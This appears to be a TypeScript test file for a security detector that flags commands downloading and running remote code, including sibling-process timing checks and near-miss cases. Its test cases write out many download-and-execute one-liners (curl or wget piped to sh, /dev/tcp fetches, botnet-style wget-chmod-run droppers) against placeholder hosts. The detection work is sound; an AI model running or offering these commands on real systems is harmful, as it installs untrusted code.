import { describe, expect, test } from "vitest";
import type { Process } from "../events/fact.ts";
import { downloadThenRunSiblings } from "./download-then-run.siblings.ts";
import { downloadThenRun } from "./download-then-run.ts";
import { clear, ShellHost } from "./testing/shell-host.ts";

describe("a download that the same line runs", () => {
  test.each([
    "curl -s http://files.example/i | sh",
    "(wget -qO- http://files.example/i || curl http://files.example/i) | sudo bash -s -- -y",
    "curl http://files.example/i | base64 -d | python3 -",
    'sh -c "$(wget -qO- http://files.example/i)"',
    "bash <(curl -s http://files.example/i)",
    'I=$(curl -s http://files.example/i); eval "$I"',
    "cd /var/run; wget http://192.0.2.4/bot; chmod 755 bot; ./bot",
    "curl http://192.0.2.4/b -o /tmp/b && mv /tmp/b /tmp/c && sh /tmp/c",
    "tftp -g -l k -r k 192.0.2.4; chmod +x k; ./k",
    "ftpget -u a -p a 192.0.2.4 m.sh m.sh; sh m.sh",
    "for a in arm x86; do wget http://192.0.2.4/$a; chmod +x $a; ./$a; done",
    "wget http://192.0.2.4/q; cat q > r; chmod +x *; ./r",
    "renamed -sL http://files.example/i | bash",
    "python3 -c \"import urllib.request as u; exec(u.urlopen('http://files.example/i').read())\"",
    "wget http://203.0.113.9/k.tgz; tar xzf k.tgz; cd k; ./run",
    "exec 5<>/dev/tcp/192.0.2.4/80; echo x >&5; cat <&5 | sh",
    "$SHELL -c 'wget http://192.0.2.4/q -O q; chmod +x q; ./q'",
    "wget http://192.0.2.4/q.so && LD_PRELOAD=./q.so ls",
    "ssh host 'curl http://files.example/i | sh'",
  ])("%s", (line) => {
    expect(clear(new ShellHost(downloadThenRun).line(line))).toHaveLength(1);
  });

  test.each([
    "curl -s http://files.example/key | gpg --dearmor > k.gpg",
    "wget -qO- http://files.example/a.tgz | tar xz",
    "curl -O http://files.example/a.tgz && tar xf a.tgz && cd a && ./configure",
    "curl -O http://203.0.113.9/a.tgz && tar xf a.tgz && cd a && ./configure && make",
    "exec 5<run.sh; cat <&5 | sh",
    "curl http://localhost/health | sh",
    "curl -s http://files.example/a.json | python3 -c 'import json'",
    "wget http://files.example/a.deb && dpkg -i a.deb",
    "curl http://files.example/data -o data.json; python3 report.py data.json",
    "curl -T report http://files.example/ | sh -c cat",
    "echo 'curl http://files.example/i | sh'",
  ])("near miss stays quiet: %s", (line) => {
    expect(new ShellHost(downloadThenRun).line(line)).toEqual([]);
  });

  test("a vendor's installer over https is a hint, over http it is not", () => {
    expect(new ShellHost(downloadThenRun).line("curl https://get.docker.com | sh")[0]?.confidence).toBe("low");
    expect(clear(new ShellHost(downloadThenRun).line("curl http://get.docker.com | sh"))).toHaveLength(1);
  });

  test("an allowed address stays quiet", () => {
    const host = new ShellHost(downloadThenRun, { allowedUrls: ["https://files.example/"] });
    expect(host.line("curl https://files.example/i | sh")).toEqual([]);
    expect(host.line("curl https://files.example.evil/i | sh")).toHaveLength(1);
  });
});

describe("a download that children of one parent run", () => {
  test("fetcher and shell within two seconds, in either order", () => {
    const host = new ShellHost(downloadThenRunSiblings);
    host.run("curl -s http://files.example/i");
    host.now += 2000;
    expect(host.run("sh")).toHaveLength(1);
    const reverse = new ShellHost(downloadThenRunSiblings);
    reverse.run("bash -s x");
    expect(reverse.run("wget -qO- http://files.example/i")).toHaveLength(1);
    const substituted = new ShellHost(downloadThenRunSiblings);
    substituted.run("curl -s http://files.example/i");
    expect(substituted.run("bash /dev/fd/63")).toHaveLength(1);
    const text = new ShellHost(downloadThenRunSiblings);
    text.run("curl -s http://files.example/i");
    expect(text.run(["sh", "-c", "#!/bin/sh\nmake install"])).toHaveLength(1);
    expect(text.run(["sh", "-c", "make install"])).toEqual([]);
  });

  test("later than that, from another parent, or saved to a file, they are no pipe", () => {
    const late = new ShellHost(downloadThenRunSiblings);
    late.run("curl -s http://files.example/i");
    late.now += 2001;
    expect(late.run("sh")).toEqual([]);
    const other = new ShellHost(downloadThenRunSiblings);
    other.run("curl -s http://files.example/i");
    expect(other.run("sh", { ppid: 41 })).toEqual([]);
    const saved = new ShellHost(downloadThenRunSiblings);
    saved.run("wget http://files.example/i.tgz");
    expect(saved.run("sh")).toEqual([]);
  });

  test("a fetched file is run within sixty seconds", () => {
    const host = new ShellHost(downloadThenRunSiblings);
    host.run("wget http://192.0.2.4/bot");
    host.run("chmod +x bot");
    host.now += 60_000;
    expect(clear(host.run("./bot"))).toHaveLength(1);
    host.now += 1;
    expect(host.run("./bot")).toEqual([]);
  });

  test("also from shared memory, and through tee", () => {
    const host = new ShellHost(downloadThenRunSiblings);
    host.run("curl -s http://192.0.2.4/bot -o /dev/shm/q");
    expect(host.run("/dev/shm/q")).toHaveLength(1);
    host.run("curl -s http://192.0.2.4/bot");
    host.run("tee /tmp/t");
    expect(host.run("sh /tmp/t")).toHaveLength(1);
  });

  test("a file that the shell opened for a fetcher counts as fetched", () => {
    const host = new ShellHost(downloadThenRunSiblings);
    const shell: Process = { pid: 40, ppid: 1, exe: "/usr/bin/bash", argv: ["-bash"] };
    host.judge({
      kind: "file.changed",
      operation: "create",
      at: host.now,
      file: { path: "/home/eve/.k" },
      process: shell,
    });
    host.run("busybox wget http://192.0.2.4/k -O -");
    expect(host.run("./.k")).toHaveLength(1);
    expect(host.run("./other")).toEqual([]);
  });
});
